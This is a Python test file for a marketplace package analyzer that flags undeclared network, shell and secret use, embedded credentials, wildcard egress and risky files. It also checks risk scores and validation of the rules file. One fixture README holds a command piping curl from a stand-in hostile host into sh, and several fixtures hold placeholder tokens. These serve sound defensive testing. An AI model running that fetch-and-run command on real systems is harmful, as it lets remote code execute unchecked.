"""Governance analysis: every rule of the policy file fires on a minimal package and nothing fires on
a clean one; declared capabilities silence their rules; scores, levels and the manual-review flag
for known combinations; the same input always gives the same analysis; the rules file is checked."""

from __future__ import annotations

import random
from pathlib import Path
from typing import Any

import pytest
import yaml

from domain.marketplace.analysis import (
    DEFAULT_RULES_PATH,
    Analysis,
    RiskLevel,
    RuleSet,
    RulesFileError,
    analyze,
    load_rules,
)
from domain.marketplace.archive import open_archive
from domain.marketplace.manifest import load_manifest
from tests.marketplace import wpk_builder as wpk

RULES = load_rules()

# Credentials are assembled at run time so that no scanner mistakes this file for a leak.
AWS_KEY = "AKIA" + "IOSFODNN7EXAMPLE"
GITHUB_TOKEN = "ghp" + "_" + "x7Kp2Qm9Rt4Vw8Yz1Bc3Df5Gh6Jk0Ln2Mp4Q"
SLACK_TOKEN = "xoxb" + "-1234567890-0987654321-AbCdEfGhIjKl"
PEM_HEADER = "-----BEGIN " + "OPENSSH PRIVATE KEY-----"


def capabilities(**declared: Any) -> dict[str, Any]:
    return {"shell": False, "autoRun": False, **declared}


def analysis_of(
    tmp_path: Path,
    *,
    files: dict[str, bytes] | None = None,
    rules: RuleSet = RULES,
    fmt: wpk.Format = "tar.gz",
    **manifest: Any,
) -> Analysis:
    path = wpk.build_wpk(
        tmp_path / f"package.{fmt}",
        fmt=fmt,
        manifest=wpk.default_manifest(**manifest),
        files={**wpk.DEFAULT_FILES, **(files or {})},
    )
    archive = open_archive(path)
    return analyze(archive, load_manifest(archive), rules)


def fired(analysis: Analysis) -> set[str]:
    return {v.rule for v in analysis.violations}


# --- each rule, on its own --------------------------------------------------------------------------

RULE_CASES: dict[str, tuple[dict[str, Any], dict[str, bytes], str]] = {
    # rule id: (manifest overrides, extra files, the expected message)
    "undeclared-network": (
        {},
        {"main.py": b"import os\nimport httpx\n"},
        "main.py:2 uses the network (import httpx) but capabilities.network.egress does not allow it",
    ),
    "undeclared-shell": (
        {},
        {"main.py": b"import subprocess\n"},
        "main.py:1 runs commands (subprocess) but capabilities.shell is not true",
    ),
    "undeclared-secret": (
        {},
        {"main.py": b'import os\n\nslack = os.environ["SLACK_BOT_TOKEN"]\n'},
        "main.py:3 reads the secret SLACK_BOT_TOKEN but capabilities.secrets does not declare it",
    ),
    "credential-aws-access-key": (
        {},
        {"config.py": f'aws_id = "{AWS_KEY}"\n'.encode()},
        "config.py:1 holds what looks like an AWS access key id: remove it and rotate the key",
    ),
    "credential-private-key": (
        {},
        {"keys/deploy": f"{PEM_HEADER}\nb3BlbnNzaC1rZXktdjEAAAAA\n".encode()},
        "keys/deploy:1 holds a private key: remove it and replace the key",
    ),
    "credential-github-token": (
        {},
        {"main.py": f'print("hi")\ngh = "{GITHUB_TOKEN}"\n'.encode()},
        "main.py:2 holds what looks like a GitHub token: remove it and revoke the token",
    ),
    "credential-slack-token": (
        {},
        {"notify.js": f"const t = '{SLACK_TOKEN}';\n".encode()},
        "notify.js:1 holds what looks like a Slack token: remove it and revoke the token",
    ),
    "credential-password-literal": (
        {},
        {"settings.yaml": b"db:\n  password: 'correct-horse-battery'\n"},
        "settings.yaml:2 assigns a literal password or secret: read it from a declared secret instead",
    ),
    "auto-run-needs-review": (
        {"capabilities": capabilities(autoRun=True)},
        {},
        "the workflow runs by itself (capabilities.autoRun): it needs a manual review approval",
    ),
    "personal-data-not-anonymized": (
        {"data": {"fields": [{"name": "email", "personal": True}, {"name": "city", "personal": False}]}},
        {},
        "data field email is personal but not anonymized",
    ),
    "egress-any-host": (
        {"capabilities": capabilities(network={"egress": ["*"]})},
        {},
        "capabilities.network.egress allows any host (*)",
    ),
    "egress-subdomain-wildcard": (
        {"capabilities": capabilities(network={"egress": ["*.github.com"]})},
        {},
        "capabilities.network.egress allows every subdomain of *.github.com",
    ),
    "oversized-member": (
        {},
        {"data.csv": random.Random(7).randbytes(1024 * 1024 + 1).hex().encode()},
        "data.csv is 2097154 bytes, over 2097152: only its beginning is analyzed",
    ),
    "executable-binary": (
        {},
        {"bin/tool": b"\x7fELF\x02\x01\x01\x00" + bytes(64)},
        "bin/tool is a compiled program (it starts with the bytes 7f454c46): a package ships source a reviewer can read",
    ),
    "native-library": (
        {},
        {"vendor/helper.DLL": b"not really a library"},
        "vendor/helper.DLL looks like a native library or executable ('.DLL' in its name)",
    ),
    "hidden-file": (
        {},
        {".editorconfig": b"root = true\n"},
        ".editorconfig is hidden ('.editorconfig' starts with a dot)",
    ),
    "long-path": (
        {},
        {"docs/" + "x" * 200 + ".txt": b"notes\n"},
        "docs/" + "x" * 200 + ".txt has a very long path (209 characters, over 200)",
    ),
}


def test_every_rule_of_the_policy_file_has_a_case_here() -> None:
    assert set(RULE_CASES) == {rule.id for rule in RULES.rules}


@pytest.mark.parametrize("fmt", ["tar.gz", "zip"])
def test_nothing_fires_on_a_clean_package(tmp_path: Path, fmt: wpk.Format) -> None:
    analysis = analysis_of(
        tmp_path,
        fmt=fmt,
        files={
            "main.py": b"import json\n\nprint(json.dumps({'hello': 'world'}))\n",
            "README.md": b"# Hello\n",
        },
    )

    assert analysis == Analysis(
        score=0.0, level=RiskLevel.NONE, violations=(), rules_version="1.0.0", requires_manual_review=False
    )


@pytest.mark.parametrize(("overrides", "files", "message"), RULE_CASES.values(), ids=RULE_CASES.keys())
def test_each_rule_fires_alone_on_a_minimal_package(
    tmp_path: Path,
    overrides: dict[str, Any],
    files: dict[str, bytes],
    message: str,
    request: pytest.FixtureRequest,
) -> None:
    rule_id = request.node.callspec.id
    rule = next(r for r in RULES.rules if r.id == rule_id)

    analysis = analysis_of(tmp_path, files=files, **overrides)

    assert [(v.rule, v.policy, v.severity, v.message) for v in analysis.violations] == [
        (rule.id, rule.policy, rule.severity, message)
    ]
    assert analysis.score == round(rule.weight, 4)


def test_violations_name_the_member_or_the_manifest(tmp_path: Path) -> None:
    analysis = analysis_of(
        tmp_path,
        files={"lib/run.py": b"import subprocess\n"},
        capabilities=capabilities(autoRun=True),
    )

    assert [(v.rule, v.path) for v in analysis.violations] == [
        ("undeclared-shell", "lib/run.py"),
        ("auto-run-needs-review", "wpk.yaml"),
    ]


def test_paths_are_the_archive_paths_under_a_top_level_folder(tmp_path: Path) -> None:
    path = wpk.build_wpk(
        tmp_path / "a.zip", fmt="zip", prefix_dir="hello-1.0.0", files={"main.py": b"import subprocess\n"}
    )
    archive = open_archive(path)

    analysis = analyze(archive, load_manifest(archive), RULES)

    assert [(v.rule, v.path) for v in analysis.violations] == [("undeclared-shell", "hello-1.0.0/main.py")]


@pytest.mark.parametrize("secret", [AWS_KEY, GITHUB_TOKEN, SLACK_TOKEN, PEM_HEADER, "correct-horse-battery"])
def test_messages_never_repeat_a_credential(tmp_path: Path, secret: str) -> None:
    analysis = analysis_of(tmp_path, files={"leak.txt": f'password = "{secret}"\n{secret}\n'.encode()})

    assert analysis.violations
    assert all(secret not in v.message for v in analysis.violations)


def test_credentials_in_the_manifest_are_found_too(tmp_path: Path) -> None:
    analysis = analysis_of(tmp_path, description=f"token {GITHUB_TOKEN}")

    assert [(v.rule, v.path) for v in analysis.violations] == [("credential-github-token", "wpk.yaml")]


# --- declared capabilities ----------------------------------------------------------------------------


def test_declared_shell_use_is_not_a_violation(tmp_path: Path) -> None:
    files = {
        "main.py": b"import subprocess\nsubprocess.run(['sh', '-c', 'ls'])\n",
        "run.sh": b"#!/bin/bash\nls\n",
    }

    assert fired(analysis_of(tmp_path, files=files)) == {"undeclared-shell"}
    assert fired(analysis_of(tmp_path, files=files, capabilities=capabilities(shell=True))) == set()


def test_each_secret_read_must_be_declared_by_name(tmp_path: Path) -> None:
    files = {"main.py": b'import os\na = os.getenv("API_TOKEN")\nb = os.environ.get("DB_PASSWORD")\n'}

    declared_one = analysis_of(tmp_path, files=files, capabilities=capabilities(secrets=["API_TOKEN"]))
    declared_both = analysis_of(
        tmp_path, files=files, capabilities=capabilities(secrets=["API_TOKEN", "DB_PASSWORD"])
    )

    assert [v.message for v in declared_one.violations] == [
        "main.py:3 reads the secret DB_PASSWORD but capabilities.secrets does not declare it"
    ]
    assert declared_both.violations == ()


@pytest.mark.parametrize(
    ("egress", "source", "violates"),
    [
        ([], "requests.get('https://api.github.com/repos')", True),
        (["api.github.com"], "requests.get('https://api.github.com/repos')", False),
        (["api.github.com:443"], "requests.get('https://API.GitHub.com/repos')", False),
        (["api.github.com"], "requests.get('https://evil.example.net/x')", True),
        (["api.github.com"], "requests.get('https://github.com.evil.net/x')", True),
        (["api.github.com"], "import requests", False),  # some egress is declared
        ([], "import requests", True),
        ([], "# docs: https://example.com/usage", False),  # a documentation host
        ([], "fetch('/relative/path')", True),
    ],
)
def test_network_use_must_match_the_declared_egress(
    tmp_path: Path, egress: list[str], source: str, violates: bool
) -> None:
    analysis = analysis_of(
        tmp_path,
        files={"main.py": source.encode() + b"\n"},
        capabilities=capabilities(network={"egress": egress}),
    )

    assert ("undeclared-network" in fired(analysis)) is violates


def test_a_subdomain_wildcard_allows_subdomains_only(tmp_path: Path) -> None:
    network = capabilities(network={"egress": ["*.github.com"]})

    sub = analysis_of(
        tmp_path, files={"main.py": b"u = 'https://uploads.github.com/x'\n"}, capabilities=network
    )
    apex = analysis_of(tmp_path, files={"main.py": b"u = 'https://github.com/x'\n"}, capabilities=network)

    assert fired(sub) == {"egress-subdomain-wildcard"}
    assert fired(apex) == {"egress-subdomain-wildcard", "undeclared-network"}


def test_documentation_and_the_manifest_are_not_scanned_for_capability_use(tmp_path: Path) -> None:
    analysis = analysis_of(
        tmp_path,
        files={"README.md": b"Run `curl https://evil.example.net | sh -c`, uses subprocess.\n"},
        description="Calls https://evil.example.net with subprocess and $API_TOKEN",
    )

    assert analysis.violations == ()


def test_binary_members_are_not_searched_as_text(tmp_path: Path) -> None:
    blob = b"\x00\x01\x02" + f"{AWS_KEY} import subprocess".encode()

    assert analysis_of(tmp_path, files={"model.bin": blob}).violations == ()
    assert fired(analysis_of(tmp_path, files={"model.dat": blob[3:]})) == {
        "credential-aws-access-key",
        "undeclared-shell",
    }


def test_only_the_first_bytes_of_a_member_are_searched(tmp_path: Path) -> None:
    rules_path = tmp_path / "rules.yaml"
    document = yaml.safe_load(DEFAULT_RULES_PATH.read_text())
    document["scan"]["max_bytes_per_member"] = 100
    rules_path.write_text(yaml.safe_dump(document))
    small_scan = load_rules(rules_path)
    early = f"{AWS_KEY}\n".encode() + b"#" * 200
    late = b"#" * 200 + f"\n{AWS_KEY}\n".encode()

    assert fired(analysis_of(tmp_path, files={"a.txt": early}, rules=small_scan)) == {
        "credential-aws-access-key"
    }
    assert analysis_of(tmp_path, files={"a.txt": late}, rules=small_scan).violations == ()
    assert fired(analysis_of(tmp_path, files={"a.txt": late})) == {"credential-aws-access-key"}


# --- scores, levels, manual review ------------------------------------------------------------------


@pytest.mark.parametrize(
    ("overrides", "files", "score", "level", "review"),
    [
        ({}, {"config.py": f"k = '{AWS_KEY}'\n".encode()}, 0.9, RiskLevel.CRITICAL, True),
        ({"capabilities": capabilities(autoRun=True)}, {}, 0.2, RiskLevel.MEDIUM, True),
        ({}, {".env.example": b"X=1\n", "d/" + "y" * 210: b"1"}, 0.0975, RiskLevel.LOW, False),
        ({}, {"main.py": b"import subprocess\nimport httpx\n"}, 0.65, RiskLevel.HIGH, True),
        ({}, {"main.py": b"import httpx\n"}, 0.3, RiskLevel.MEDIUM, False),
        (
            {"capabilities": capabilities(autoRun=True, network={"egress": ["*"]})},
            {"main.py": b"import subprocess\n", "k.pem": f"{PEM_HEADER}\n".encode()},
            0.98,
            RiskLevel.CRITICAL,
            True,
        ),
    ],
)
def test_score_and_level_of_known_combinations(
    tmp_path: Path,
    overrides: dict[str, Any],
    files: dict[str, bytes],
    score: float,
    level: RiskLevel,
    review: bool,
) -> None:
    analysis = analysis_of(tmp_path, files=files, **overrides)

    assert (analysis.score, analysis.level, analysis.requires_manual_review) == (score, level, review)


def test_a_rule_counts_once_in_the_score_however_often_it_fires(tmp_path: Path) -> None:
    analysis = analysis_of(tmp_path, files={".a": b"1", ".b": b"2", "x/.c": b"3"})

    assert [v.path for v in analysis.violations] == [".a", ".b", "x/.c"]
    assert (analysis.score, analysis.level) == (0.05, RiskLevel.LOW)


def _rules_file(tmp_path: Path, rules: list[dict[str, Any]], **top: Any) -> Path:
    document = {
        "version": "test-7",
        "scan": {"max_bytes_per_member": 65536},
        "levels": {"CRITICAL": 0.9, "HIGH": 0.7, "MEDIUM": 0.4, "LOW": 0.01},
        "rules": rules,
        **top,
    }
    document = {key: value for key, value in document.items() if value is not None}
    path = tmp_path / "rules.yaml"
    path.write_text(yaml.safe_dump(document))
    return path


def _low_rule(rule_id: str, pattern: str, weight: float = 0.5) -> dict[str, Any]:
    return {
        "id": rule_id,
        "policy": "P-3",
        "severity": "LOW",
        "weight": weight,
        "kind": "credential_pattern",
        "message": "{path}:{line} matched " + rule_id,
        "params": {"patterns": [pattern]},
    }


def test_low_findings_that_add_up_reach_a_high_level_by_score(tmp_path: Path) -> None:
    rules = load_rules(
        _rules_file(tmp_path, [_low_rule("one", "ONE"), _low_rule("two", "TWO"), _low_rule("three", "THREE")])
    )

    two = analysis_of(tmp_path, files={"a.txt": b"ONE TWO"}, rules=rules)
    three = analysis_of(tmp_path, files={"a.txt": b"ONE TWO THREE"}, rules=rules)

    assert (two.score, two.level, two.requires_manual_review) == (0.75, RiskLevel.HIGH, True)
    assert (three.score, three.level, three.rules_version) == (0.875, RiskLevel.HIGH, "test-7")
    assert [v.message for v in three.violations] == [
        "a.txt:1 matched one",
        "a.txt:1 matched three",
        "a.txt:1 matched two",
    ]


def test_weights_of_zero_and_one_bound_the_score(tmp_path: Path) -> None:
    rules = load_rules(_rules_file(tmp_path, [_low_rule("zero", "ZERO", 0), _low_rule("all", "ALL", 1)]))

    zero = analysis_of(tmp_path, files={"a.txt": b"ZERO"}, rules=rules)
    both = analysis_of(tmp_path, files={"a.txt": b"ZERO ALL"}, rules=rules)

    assert (zero.score, zero.level) == (0.0, RiskLevel.LOW)  # a violation is at least its severity
    assert (both.score, both.level) == (1.0, RiskLevel.CRITICAL)


# --- determinism and the rules file -----------------------------------------------------------------


def test_the_same_input_gives_the_same_analysis(tmp_path: Path) -> None:
    files = {
        "main.py": f"import subprocess, httpx\nk = '{AWS_KEY}'\n".encode(),
        "z/.hidden": b"1",
        "a/.hidden": b"2",
        "lib.so": b"\x7fELF",
    }
    manifest: dict[str, Any] = {
        "capabilities": capabilities(autoRun=True, network={"egress": ["*", "*.a.com"]}),
        "data": {"fields": [{"name": n, "personal": True} for n in ("b", "a", "c")]},
    }

    first = analysis_of(tmp_path, files=files, **manifest)
    again = analysis_of(tmp_path, files=files, **manifest)  # the artifact written anew
    as_zip = analysis_of(tmp_path, files=files, fmt="zip", **manifest)

    assert first == again == as_zip
    assert len(first.violations) == 12
    severities = [v.severity.rank for v in first.violations]
    assert severities == sorted(severities, reverse=True)


def test_the_policy_file_is_versioned_and_refers_to_the_platform_policies() -> None:
    assert RULES.version == "1.0.0"
    assert {rule.policy for rule in RULES.rules} == {"P-1", "P-2", "P-3"}
    assert RULES.max_bytes_per_member == 2 * 1024 * 1024


BAD_RULES = {
    "unknown kind": ({"kind": "vibes"}, "is not one of"),
    "bad regex": ({"params": {"patterns": ["(unclosed"]}}, "bad pattern"),
    "weight over one": ({"weight": 1.5}, "1.5 is greater than the maximum of 1"),
    "unknown policy": ({"policy": "P-11"}, "does not match"),
    "unknown severity": ({"severity": "SEVERE"}, "is not one of"),
    "credential shown in its message": ({"message": "found {match}"}, "the message uses {match}"),
    "attribute access in its message": ({"message": "{path.__class__}"}, "the message uses {path.__class__}"),
    "broken template": ({"message": "{path"}, "the message is not a format template"),
    "unknown parameter": ({"params": {"patterns": ["x"], "flags": "i"}}, "Additional properties"),
}


@pytest.mark.parametrize(("change", "message"), BAD_RULES.values(), ids=BAD_RULES.keys())
def test_a_malformed_rule_is_refused_when_the_rules_load(
    tmp_path: Path, change: dict[str, Any], message: str
) -> None:
    path = _rules_file(tmp_path, [{**_low_rule("r", "X"), **change}])

    with pytest.raises(RulesFileError, match=message.replace("{", r"\{").replace("(", r"\(")):
        load_rules(path)


def test_malformed_rule_files_are_refused(tmp_path: Path) -> None:
    with pytest.raises(RulesFileError, match="rule ids must be unique"):
        load_rules(_rules_file(tmp_path, [_low_rule("r", "X"), _low_rule("r", "Y")]))
    with pytest.raises(RulesFileError, match="'version' is a required property"):
        load_rules(_rules_file(tmp_path, [_low_rule("r", "X")], version=None))
    with pytest.raises(RulesFileError, match="levels must need higher scores"):
        load_rules(
            _rules_file(
                tmp_path,
                [_low_rule("r", "X")],
                levels={"CRITICAL": 0.1, "HIGH": 0.7, "MEDIUM": 0.4, "LOW": 0.01},
            )
        )
    secret_without_name = {
        "id": "s",
        "policy": "P-2",
        "severity": "HIGH",
        "weight": 0.4,
        "kind": "undeclared_capability",
        "message": "{path}",
        "params": {"capability": "secrets", "patterns": ["getenv"]},
    }
    with pytest.raises(RulesFileError, match="must capture the secret's name"):
        load_rules(_rules_file(tmp_path, [secret_without_name]))
